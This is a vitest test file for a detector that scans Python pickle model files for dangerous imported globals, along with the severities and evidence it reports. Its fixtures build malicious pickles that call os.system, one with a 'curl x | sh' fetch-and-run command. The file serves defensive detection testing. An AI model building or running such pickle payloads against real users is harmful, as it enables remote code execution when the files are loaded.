import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
import detector from '../../../src/detectors/model/pickle-globals.js';
import { disassemblePickle } from '../../../src/readers/pickle/index.js';
import { buildPickle, payloadPickle } from '../../builders/pickle.js';
import { stateDictPickle } from '../../builders/torch.js';
import { brief, runDetector } from '../detector-tester.js';

const findings = (bytes: Buffer, strict = false) =>
  runDetector(detector, { analysis: disassemblePickle(bufferSource(bytes), { limits: DEFAULT_LIMITS }), container: 'pickle' }, { strict });

describe('model/pickle-globals', () => {
  const cases: { name: string; bytes: Buffer; expected: string[]; strict?: boolean }[] = [
    { name: 'benign state dict: only allow-listed imports (info)', bytes: stateDictPickle(), expected: ['allowed:info', 'allowed:info', 'allowed:info'] },
    { name: 'denied global called by REDUCE is critical', bytes: payloadPickle('os', 'system', 'id'), expected: ['denyCalled:critical'] },
    { name: 'denied global only imported is high', bytes: buildPickle().proto(2).global('os', 'system').stop().bytes(), expected: ['denyImported:high'] },
    { name: 'unknown global is medium', bytes: payloadPickle('acme.models', 'Net'), expected: ['unknown:medium'] },
    { name: 'unknown global is high with --strict', bytes: payloadPickle('acme.models', 'Net'), expected: ['unknown:high'], strict: true },
    { name: 'EXT opcode import is dynamic (high)', bytes: buildPickle().proto(2).ext1(5).stop().bytes(), expected: ['dynamic:high'] },
    {
      name: 'call of a computed callable is high',
      bytes: buildPickle().proto(2).global('acme', 'factory').emptyTuple().reduce().emptyTuple().reduce().stop().bytes(),
      expected: ['computedCall:high', 'unknown:medium'],
    },
  ];
  it.each(cases)('$name', ({ bytes, expected, strict }) => {
    expect(brief(findings(bytes, strict))).toEqual(expected);
  });

  it('evidence names the global, the opcode, its offset and the deciding rule', () => {
    const bytes = payloadPickle('os', 'system', 'curl x | sh');
    const [f] = findings(bytes);
    expect(f?.evidence).toMatchObject({ match: 'os.system', opcode: 'REDUCE', rule: 'deny:os' });
    expect(f?.location.offset).toBe(bytes.indexOf(Buffer.from('R')));
    expect(f?.message).toContain('"curl x | sh"');
  });
});
